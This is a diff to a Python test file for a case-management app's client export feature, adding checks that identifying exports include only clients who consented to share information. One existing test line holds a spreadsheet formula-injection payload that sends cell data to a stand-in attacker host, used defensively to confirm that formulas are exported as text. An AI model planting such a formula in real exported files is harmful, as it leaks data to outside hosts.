@@ -23,7 +23,9 @@ from openpyxl import load_workbook
 from wholejourney.accounts.roles import Role
 from wholejourney.audit.models import AuditEvent
 from wholejourney.cases.tests import factories as case_factories
+from wholejourney.clients import services as client_services
 from wholejourney.clients.models import Client
+from wholejourney.clients.services import consent_record
 from wholejourney.conftest import Cast
 from wholejourney.core.tests.factories import make_user
 from wholejourney.exports import services
@@ -52,7 +54,14 @@ def _media(settings: Any, tmp_path: Path) -> None:
 def dara(cast: Cast) -> Client:
     client = case_factories.make_client(cast.case_manager, given_name_latin="Dara", family_name_latin="Sok")
     case_factories.make_case(cast.case_manager, client)
+    consent_to_share(cast, client)
     return client
+
+
+def consent_to_share(cast: Cast, client: Client) -> None:
+    """An identifying export carries only clients who agreed to share information (exports.tables)."""
+    partner = case_factories.OrganisationFactory(office=client.office)
+    consent_record(actor=cast.case_manager, client=client, kind="sharing", partner=partner, given_on=case_factories.DAY)
 
 
 @pytest.fixture
@@ -340,6 +349,7 @@ def test_formula_in_a_record_is_written_as_text(
 ) -> None:
     formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
     client = case_factories.make_client(cast.case_manager, given_name_latin=formula, family_name_latin="@Sok")
+    consent_to_share(cast, client)
     device = authenticator(cast.case_manager)
     export = services.export_request(actor=cast.case_manager, kind="clients", format=fmt, identifying=True)
     services.export_decide(actor=cast.director, export=export, approve=True)
@@ -415,3 +425,36 @@ def test_office_export_is_for_the_offices_administrator_with_the_directors_appro
     for user in (cast.admin, cast.case_manager, cast.director):  # global admin: no office; others: no permission
         with pytest.raises((services.PermissionDenied, services.ValidationError)):
             services.export_request(actor=user, kind="office", format="xlsx", identifying=True)
+
+
+def test_identifying_export_leaves_out_clients_without_consent_to_share(
+    cast: Cast, dara: Client, django_capture_on_commit_callbacks: Any
+) -> None:
+    silent = case_factories.make_client(cast.case_manager, given_name_latin="Sentinelname", family_name_latin="Keo")
+    case_factories.make_case(cast.case_manager, silent)
+    withdrawn = case_factories.make_client(cast.case_manager, given_name_latin="Withdrew", family_name_latin="Lim")
+    consent_to_share(cast, withdrawn)
+    client_services.consent_withdraw(actor=cast.case_manager, consent=withdrawn.consents.get())
+    device = authenticator(cast.case_manager)
+    contents = {}
+    for identifying in (True, False):
+        with django_capture_on_commit_callbacks(execute=True):
+            export = services.export_request(
+                actor=cast.case_manager, kind="clients", format="csv", identifying=identifying
+            )
+        if identifying:
+            services.export_decide(actor=cast.director, export=export, approve=True)
+            with django_capture_on_commit_callbacks(execute=True):
+                services.export_confirm_second_factor(actor=cast.case_manager, export=export, code=current_code(device))
+            device.refresh_from_db()
+            device.throttle_reset()
+        export.refresh_from_db()
+        contents[identifying] = services.export_open(actor=cast.case_manager, export=export)[2]
+
+    identifying_text = contents[True].decode("utf-8-sig") if isinstance(contents[True], bytes) else str(contents[True])
+    assert dara.code in identifying_text and "Dara" in identifying_text
+    assert silent.code not in identifying_text and "Sentinelname" not in identifying_text
+    assert withdrawn.code not in identifying_text and "Withdrew" not in identifying_text
+    # Codes only: every client of the caseload, as before.
+    codes_text = contents[False].decode("utf-8-sig") if isinstance(contents[False], bytes) else str(contents[False])
+    assert all(c.code in codes_text for c in (dara, silent, withdrawn))
